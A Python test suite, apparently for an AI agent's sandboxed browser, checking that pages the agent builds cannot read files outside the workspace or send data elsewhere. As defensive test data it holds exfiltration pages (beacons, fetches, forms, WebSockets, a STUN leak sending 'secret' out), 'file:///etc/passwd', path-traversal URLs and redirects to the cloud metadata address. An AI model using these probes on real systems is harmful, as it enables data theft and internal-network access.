"""Pages that the agent made, in a real Chromium: servers in its sandbox, files of its workspace."""

import contextlib
import socket
import threading
from collections.abc import Iterator
from dataclasses import replace
from functools import partial
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from langchain_core.messages import AIMessage, AnyMessage, HumanMessage
from langchain_core.tools import BaseTool, StructuredTool

from openmanus_graph.backends.browser import browser_session
from openmanus_graph.backends.browser.browser_session import BrowserSession
from openmanus_graph.backends.browser.browsers import browser_loop
from openmanus_graph.errors import ToolError
from openmanus_graph.runtime.session import Session
from openmanus_graph.state.context import SandboxMode
from openmanus_graph.state.settings import SandboxSettings
from openmanus_graph.testing.replays import tool_runtime, tool_session
from openmanus_graph.tools.browser_use import browser_use
from openmanus_graph.tools.execution import bash
from openmanus_graph.tools.web import crawl4ai, fetch_page
from tests.support.sandboxes import MODES
from tests.support.ssh import SshServer

SERVER = """
import http.server, sys
class Handler(http.server.SimpleHTTPRequestHandler):
    def do_GET(self):
        if self.path.startswith("/to?"):
            self.send_response(302)
            self.send_header("Location", self.path[4:])
            self.end_headers()
        elif self.path == "/silent":
            import time; time.sleep(1000)
        else:
            super().do_GET()
    def do_POST(self):
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"got " + self.rfile.read(int(self.headers["Content-Length"])))
    def log_message(self, *_): pass
class Server(http.server.ThreadingHTTPServer):
    address_family = 10 if ":" in sys.argv[1] else 2
Server((sys.argv[1], int(sys.argv[2])), Handler).serve_forever()
"""
WAIT = (
    "for i in $(seq 200); do (exec 3<>/dev/tcp/{host}/{port}) 2>/dev/null && break; "
    "sleep 0.05; done"
)


class OnMachine(BaseHTTPRequestHandler):
    """A server of this machine, such as that of the model. It notes who calls."""

    def do_GET(self) -> None:
        self.server.called.append(self.path)  # type: ignore[attr-defined]  # of the fixture
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()
        self.wfile.write(b"SECRET of the machine")

    do_POST = do_GET

    def log_message(self, format: str, *args: Any) -> None:  # the base's name
        pass


@pytest.fixture
def machine() -> Iterator[ThreadingHTTPServer]:
    with ThreadingHTTPServer(("127.0.0.1", 0), OnMachine) as server:
        server.called = []  # type: ignore[attr-defined]  # noted by the handler
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield server
        server.shutdown()
        thread.join()


BWRAP = SandboxSettings(mode="bwrap")


class Agent:
    def __init__(self, root: Path, settings: SandboxSettings = BWRAP) -> None:
        root.mkdir(exist_ok=True)
        self.session: Session = tool_session(root, sandbox=settings)
        self.root = self.session.workspace.root
        self.task = "Build the page."
        (self.root / "serve.py").write_text(SERVER)

    async def call(self, tool: BaseTool, **args: Any) -> str:
        assert isinstance(tool, StructuredTool)
        assert tool.coroutine is not None
        messages: list[AnyMessage] = [HumanMessage(self.task, id="1")]
        messages.append(AIMessage("", id=str(args), tool_calls=[]))
        runtime = replace(tool_runtime(self.session), state={"messages": messages})
        try:
            shown, _ = await tool.coroutine(**args, runtime=runtime)
        except ToolError as error:
            return f"ERROR {error}"
        return str(shown)

    async def __call__(self, action: str, **args: Any) -> str:
        return await self.call(browser_use, action=action, **args)

    @property
    def browser(self) -> BrowserSession:
        browser = self.session.find("browser")
        assert isinstance(browser, BrowserSession)
        return browser

    async def serve(self, port: int = 8123, host: str = "127.0.0.1") -> None:
        await self.call(
            bash, command=f"python3 serve.py {host} {port} & " + WAIT.format(host=host, port=port)
        )


@pytest.fixture
def agent(tmp_path: Path) -> Iterator[Agent]:
    one = Agent(tmp_path / "work")
    with contextlib.closing(one.session):
        yield one


def write(agent: Agent, name: str, text: str) -> None:
    (agent.root / name).parent.mkdir(parents=True, exist_ok=True)
    (agent.root / name).write_text(text)


PAGE = (
    "<title>Mine</title><link rel=stylesheet href=style.css><h1>Hello Grüße</h1>"
    "<p id=out>no script</p><script type=module src=js/app.js></script><img src='pic.svg' alt=pic>"
)


def write_site(agent: Agent) -> None:
    write(agent, "site/page.html", PAGE)
    write(agent, "site/style.css", "h1 { color: rgb(1, 2, 3) }")
    write(agent, "site/pic.svg", "<svg xmlns='http://www.w3.org/2000/svg' width='7' height='5'/>")
    write(agent, "site/data.json", '{"n": 42}')
    script = (
        "const data = await (await fetch('data.json')).json();"
        "document.getElementById('out').textContent = 'n is ' + data.n;"
    )
    write(agent, "site/js/app.js", script)


LOOK = (
    "[document.characterSet, getComputedStyle(document.querySelector('h1')).color,"
    " document.querySelector('img').naturalWidth]"
)


async def test_a_page_of_the_workspace_is_shown_with_all_its_parts(agent: Agent) -> None:
    write_site(agent)
    for url in (
        "http://workspace.localhost/site/page.html",
        f"file://{agent.root}/site/page.html",
        str(agent.root / "site/page.html"),
        "site/page.html",
        "./site/page.html",
    ):
        shown = await agent("go_to_url", url=url)
        assert "n is 42" in shown, (url, shown)
        assert "http://workspace.localhost/site/page.html" in shown
        seen = await agent("evaluate", text=LOOK)
        assert '["UTF-8","rgb(1, 2, 3)",7]' in seen


async def test_folders_missing_hidden_and_foreign_files(agent: Agent, tmp_path: Path) -> None:
    write_site(agent)
    write(agent, "odd/a b & <i>#1?.html", "<h1>odd name</h1>")
    write(agent, "key.txt", "TOPSECRET")
    (tmp_path / "outside.html").write_text("OUTSIDE")
    (agent.root / "link.html").symlink_to(tmp_path / "outside.html")
    protected = (agent.root / "key.txt",)
    agent.session.workspace = replace(agent.session.workspace, protected=protected)
    for name in ("odd/a b & <i>%231%3F.html", "odd/a b & <i>#1?.html"):
        assert "odd name" in await agent("go_to_url", url=name)
    for folder in ("odd", "odd/", ""):
        shown = await agent("go_to_url", url=f"http://workspace.localhost/{folder}")
        assert f"no file {folder.rstrip('/')}{'/' * bool(folder)}index.html" in shown
    write(agent, "odd/index.html", "<h1>the index</h1>")
    assert "the index" in await agent("go_to_url", url="http://workspace.localhost/odd")
    assert "no file gone.html" in await agent(
        "go_to_url", url="http://workspace.localhost/gone.html"
    )
    for url, words in (
        ("http://workspace.localhost/key.txt", "out of reach"),
        ("http://workspace.localhost/link.html", "outside the workspace"),
        ("http://workspace.localhost/%2e%2e%2foutside.html", "outside the workspace"),
        (f"file://{tmp_path}/outside.html", "files of the workspace only"),
        ("file:///etc/passwd", "files of the workspace only"),
        ("gone.html", "neither a web address nor a file"),
        (f"file://{agent.root}/gone.html", "neither a web address nor a file"),
        ("https://workspace.localhost/odd/", "was not"),
    ):
        shown = await agent("go_to_url", url=url)
        assert words in shown, (url, shown)
        assert "SECRET" not in shown
        assert "OUTSIDE" not in shown
    posted = "fetch('/odd/index.html', {method: 'POST', body: 'x'}).then(r => r.status)"
    await agent("go_to_url", url="http://workspace.localhost/odd/")
    await agent("go_to_url", url="http://10.0.0.1/")
    assert "the index" in await agent("get_state")  # what is refused leaves the page
    assert "405" in await agent("evaluate", text=posted)


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "0.0.0.0", "[::1]", "app.localhost"])
async def test_a_server_of_the_sandbox_is_reached_by_every_name(agent: Agent, host: str) -> None:
    write(agent, "hello.html", "<h1>from the sandbox</h1>")
    await agent.serve(host="::1" if host == "[::1]" else "127.0.0.1")
    url = f"http://{host}:8123/hello.html"
    assert "from the sandbox" in await agent("go_to_url", url=url)
    assert "from the sandbox" in await agent("open_tab", url=url.removeprefix("http://"))
    assert "from the sandbox" in await agent.call(fetch_page, url=url)
    assert "from the sandbox" in await agent.call(crawl4ai, urls=[url])


async def test_what_the_sandbox_does_not_serve_is_refused_with_all_options(
    agent: Agent, machine: ThreadingHTTPServer, tmp_path: Path
) -> None:
    other = Agent(tmp_path / "other")
    with contextlib.closing(other.session):
        await other.serve(8124)
        await agent.serve()
        for port in (machine.server_address[1], 8124, 65535):
            url = f"http://127.0.0.1:{port}/"
            for shown in (
                await agent("go_to_url", url=url),
                await agent.call(fetch_page, url=url),
                await agent.call(crawl4ai, urls=[url]),
            ):
                assert f"--allow-host 127.0.0.1:{port} and names that address" in shown, shown
                assert "SECRET" not in shown
    for url in ("http://127.0.0.1:0/", "http://127.0.0.1:65536/"):
        assert "not opened" in await agent("go_to_url", url=url)
    assert machine.called == []  # type: ignore[attr-defined]  # of the fixture


async def test_a_page_of_the_agent_sends_nothing_elsewhere(
    agent: Agent, machine: ThreadingHTTPServer
) -> None:
    there = f"http://127.0.0.1:{machine.server_address[1]}"
    for number, target in enumerate((there, "http://93.184.215.14", "https://example.com")):
        write(
            agent,
            f"leak{number}.html",
            f"<h1>leak</h1><img src='{target}/i?secret'><script src='{target}/s?secret'></script>"
            f"<link rel=prefetch href='{target}/p?secret'><iframe src='{target}/f?secret'></iframe>"
            f"<a href='{target}/link?secret'>out</a>"
            f"<form method=post action='{target}/post'><input name=a value=secret>"
            "<button>send</button></form>"
            f"<script>navigator.sendBeacon('{target}/b', 'secret');"
            f"new WebSocket('{target.replace('http', 'ws')}/w?secret');"
            f"fetch('{target}/x', {{method: 'POST', mode: 'no-cors', body: 'secret'}})"
            ".catch(e => document.title = 'failed')</script>",
        )
        shown = await agent("go_to_url", url=f"leak{number}.html")
        assert "Refused to the page" in shown
        assert "was not reached" in shown
        for words in ('link "out"', 'button "send"'):
            shown = await agent("go_to_url", url=f"leak{number}.html")
            index = int(shown.partition(f"] {words}")[0].rpartition("[")[2])
            left = await agent("click_element", index=index)
            assert "was not reached" in left, left
            assert ("Open it with go_to_url" in left) is (number > 0)
    assert machine.called == []  # type: ignore[attr-defined]  # of the fixture


STUN = """
const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:%d'}]});
peer.createDataChannel('secret');
peer.setLocalDescription();
new Promise(done => peer.onicegatheringstatechange =
    () => peer.iceGatheringState == 'complete' && done('gathered'));
"""


async def test_a_page_of_the_agent_sends_nothing_past_the_proxy(agent: Agent) -> None:
    write(agent, "page.html", "<title>t</title><h1>leak</h1>")
    await agent("go_to_url", url="page.html")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stun:
        stun.bind(("127.0.0.1", 0))
        stun.setblocking(False)
        assert "gathered" in await agent("evaluate", text=STUN % stun.getsockname()[1])
        with pytest.raises(BlockingIOError):
            stun.recv(100)


@pytest.mark.parametrize(
    "place", ["{there}/away", "http://169.254.169.254/", "https://example.com/"]
)
async def test_each_hop_of_a_server_of_the_agent_is_judged(
    agent: Agent, machine: ThreadingHTTPServer, place: str
) -> None:
    await agent.serve()
    url = "http://127.0.0.1:8123/to?" + place.format(
        there=f"http://127.0.0.1:{machine.server_address[1]}"
    )
    assert "was not reached" in await agent("go_to_url", url=url)
    assert "not reached" in await agent.call(fetch_page, url=url)
    assert "not reached" in await agent.call(crawl4ai, urls=[url])
    assert machine.called == []  # type: ignore[attr-defined]  # of the fixture


async def test_hosts_that_the_person_named_are_loaded(
    agent: Agent, machine: ThreadingHTTPServer
) -> None:
    place = f"127.0.0.1:{machine.server_address[1]}"
    write(agent, "page.html", f"<script>fetch('http://{place}/x').then(r => r.text())"
                              ".then(t => document.body.append(t))</script>")  # fmt: skip
    settings = replace(agent.session.settings, allow_hosts=(place,))
    agent.session.configure(settings)
    assert "SECRET" not in await agent("go_to_url", url="page.html")  # allowed, and not named
    agent.task = f"Build a page that shows http://{place}/x"
    assert "SECRET" in await agent("refresh")
    agent.session.configure(replace(settings, allow_hosts=()))
    shown = await agent("go_to_url", url="page.html")  # named, and not allowed
    assert "SECRET" not in shown


async def test_a_public_page_does_not_reach_the_agents_pages(
    agent: Agent, machine: ThreadingHTTPServer
) -> None:
    await agent.serve()
    write(agent, "hello.html", "<h1>hello</h1>")
    agent.session.configure(
        replace(agent.session.settings, allow_hosts=(f"127.0.0.1:{machine.server_address[1]}",))
    )
    await agent("go_to_url", url=f"http://127.0.0.1:{machine.server_address[1]}/")
    assert "only on pages of yours" in await agent("evaluate", text="1")
    page = agent.browser.current.page
    for url in ("http://127.0.0.1:8123/hello.html", "http://workspace.localhost/hello.html"):
        script = f"fetch('{url}', {{mode: 'no-cors'}}).then(() => 1, () => 0)"
        looking: Any = partial(page.evaluate, script)
        await browser_loop.run(looking)
    told = agent.browser.connection.egress.take_refusals()
    assert {one.url.split("/")[2] for one in told} == {"127.0.0.1:8123", "workspace.localhost"}
    # The tab changes its context and comes back.
    assert "hello" in await agent("go_to_url", url="http://127.0.0.1:8123/hello.html")
    assert "SECRET" in await agent(
        "go_to_url", url=f"http://127.0.0.1:{machine.server_address[1]}/"
    )


async def test_a_server_that_ends_or_is_silent_is_reported(agent: Agent) -> None:
    await agent.serve()
    write(agent, "hello.html", "<h1>hello</h1>")
    assert "hello" in await agent("go_to_url", url="http://127.0.0.1:8123/hello.html")
    await agent.call(bash, command="kill %1; wait")
    assert "no program of your sandbox listens" in await agent("refresh")
    assert "no program of your sandbox listens" in await agent(
        "go_to_url", url="http://127.0.0.1:8123/hello.html"
    )


WEBSOCKET = """
import asyncio, base64, hashlib
PAGE = (b"<p id=o>waiting</p><script>new WebSocket('ws://' + location.host).onmessage ="
        b" e => o.textContent = e.data</script>")
MAGIC = "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
async def serve(reader, writer):
    head = (await reader.readuntil(b"\\r\\n\\r\\n")).decode().split("\\r\\n")
    fields = dict(line.lower().split(": ", 1) for line in head if ": " in line)
    if "sec-websocket-key" not in fields:
        size = str(len(PAGE)).encode()
        writer.write(b"HTTP/1.1 200 OK\\r\\nContent-Type: text/html\\r\\nContent-Length: " + size)
        writer.write(b"\\r\\n\\r\\n" + PAGE)
    else:
        key = next(line.split(": ")[1] for line in head if "key: " in line.lower())
        accept = base64.b64encode(hashlib.sha1((key + MAGIC).encode()).digest())
        writer.write(b"HTTP/1.1 101 Go\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\n")
        writer.write(b"Sec-WebSocket-Accept: " + accept + b"\\r\\n\\r\\n\\x81\\x06reload")
    await writer.drain()
async def main():
    await (await asyncio.start_server(serve, "127.0.0.1", 5173)).serve_forever()
asyncio.run(main())
"""


async def test_a_websocket_of_the_own_server_is_connected(agent: Agent) -> None:
    write(agent, "ws.py", WEBSOCKET)
    wait = WAIT.format(host="127.0.0.1", port=5173)
    await agent.call(bash, command=f"python3 ws.py & {wait}")
    shown = await agent("go_to_url", url="localhost:5173")
    for _ in range(50):
        if "reload" in shown:
            return
        shown = await agent("get_state")
    pytest.fail(shown)


@pytest.mark.parametrize(
    ("script", "result"),
    [
        ("1 + 1", "Result: 2"),
        ("({a: [1, 'x']})", 'Result: {"a":[1,"x"]}'),
        ("const a = 2; a * 3", "Result: 6"),
        ("await Promise.resolve('later')", 'Result: "later"'),
        ("Promise.resolve(['later'])", 'Result: ["later"]'),
        ("const a = await Promise.resolve('Grüße'); a + 1", 'Result: "Grüße1"'),
        ("window.runs = (window.runs || 0) + 1; JSON.parse('<html>')", "Unexpected token"),
        ("await new Response('<html>').json()", "Unexpected token"),
        ("[NaN, null]", "Result: [null,null]"),
        ("0 / 0", "Result: NaN"),
        ("10n", "Result: 10n"),
        ("null", "Result: null"),
        ("undefined", "Result: undefined"),
        ("document.querySelector('h1')", 'Result: "<h1>hello</h1>"'),
        ("nothere.x", "nothere is not defined"),
        ("let a =", "SyntaxError"),
        ("const o = {}; o.o = o; o", "circular"),
        ("'x'.repeat(1e6)", "longer: return less"),
        ("while (true) {}", "did not end within"),
        ("throw 'x'.repeat(1e6)", "failed: xxx"),
        ("alert('hi')", "showed an alert"),
        ("new Promise(() => 0)", "did not end within"),
    ],
)
async def test_scripts_on_own_pages(agent: Agent, script: str, result: str) -> None:
    csp = "<meta http-equiv=Content-Security-Policy content=\"script-src 'self'\">"
    write(agent, "hello.html", f"<title>t</title>{csp}<h1>hello</h1>")
    await agent("go_to_url", url="hello.html")
    shown = await agent("evaluate", text=script)
    assert result in shown
    assert len(shown) < 9000
    if "runs" in script:
        assert "Result: 1" in await agent("evaluate", text="runs")
    assert "hello" in await agent("get_state")


async def test_a_tab_that_changes_to_an_own_page_is_one_tab(
    agent: Agent, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(browser_session, "MAX_TABS", 1)
    write(agent, "hello.html", "<a href=data.txt download>get</a>")
    write(agent, "data.txt", "once")
    assert "get" in await agent("go_to_url", url="hello.html")
    assert "Downloaded" in await agent("click_element", label="get")
    assert [path.name for path in (agent.root / "downloads").iterdir()] == ["data.txt"]


async def test_script_errors_of_own_pages_are_told(agent: Agent) -> None:
    write(agent, "page.html", "<title>t</title><script>setTimeout(() => gone.x)</script>")
    assert "Script error: gone is not defined" in await agent("go_to_url", url="page.html")


@pytest.mark.parametrize("mode", MODES)
async def test_on_a_shared_network_only_own_ports_are_reached(
    tmp_path: Path, machine: ThreadingHTTPServer, mode: SandboxMode
) -> None:
    agent = Agent(tmp_path / "work", SandboxSettings(mode=mode, network="any"))
    write(agent, "hello.html", "<h1>hello</h1>")
    with socket.create_server(("127.0.0.1", 0)) as free:
        port = free.getsockname()[1]
    with contextlib.closing(agent.session):
        await agent.serve(port)
        url = f"http://127.0.0.1:{port}/hello.html"
        assert "hello" in await agent("go_to_url", url=url)
        there = f"http://127.0.0.1:{machine.server_address[1]}/"
        assert "no program of your sandbox" in await agent("go_to_url", url=there)
        await agent.call(bash, command="kill %1; wait")
        with ThreadingHTTPServer(("127.0.0.1", port), OnMachine) as taken:  # by another program
            taken.called = []  # type: ignore[attr-defined]  # noted by the handler
            thread = threading.Thread(target=taken.serve_forever)
            thread.start()
            shown = await agent("go_to_url", url=url)
            taken.shutdown()
            thread.join()
        assert "no program of your sandbox" in shown
        assert (taken.called, machine.called) == ([], [])  # type: ignore[attr-defined]  # as above


async def test_where_ports_cannot_be_reached_the_workspace_can(
    tmp_path: Path, ssh_server: SshServer
) -> None:
    agent = Agent(tmp_path / "work", ssh_server.settings)
    write(agent, "hello.html", "<h1>hello</h1>")
    with contextlib.closing(agent.session):
        await agent.call(bash, command="true")
        shown = await agent("go_to_url", url="http://127.0.0.1:8123/")
        assert "cannot reach ports in the sandbox 'ssh'" in shown
        assert "hello" in await agent("go_to_url", url="hello.html")


@pytest.mark.parametrize("profile", [False, True])
async def test_own_pages_come_back_after_the_browser_died(
    agent: Agent, tmp_path: Path, profile: bool
) -> None:
    if profile:
        browser = replace(agent.session.settings.browser, profile=str(tmp_path / "profile"))
        agent.session.configure(replace(agent.session.settings, browser=browser))
    write(agent, "hello.html", "<h1>hello</h1>")
    assert "hello" in await agent("go_to_url", url="hello.html")
    own = agent.browser.current.connection
    assert own is not agent.browser.connection
    assert own.context.browser is not None
    await browser_loop.run(own.context.browser.close)
    assert "hello" in await agent("get_state")
    assert "Result: 2" in await agent("evaluate", text="1 + 1")
